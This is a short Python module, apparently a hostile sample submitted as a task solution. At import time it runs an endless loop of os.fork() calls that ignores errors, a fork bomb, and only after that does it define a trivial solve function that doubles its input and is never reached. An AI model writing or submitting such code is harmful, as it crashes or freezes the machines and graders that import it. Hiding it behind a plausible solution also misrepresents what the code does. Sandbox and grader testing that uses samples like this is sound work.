"""Forks without end while it is imported."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass

def solve(x):
    return 2 * x
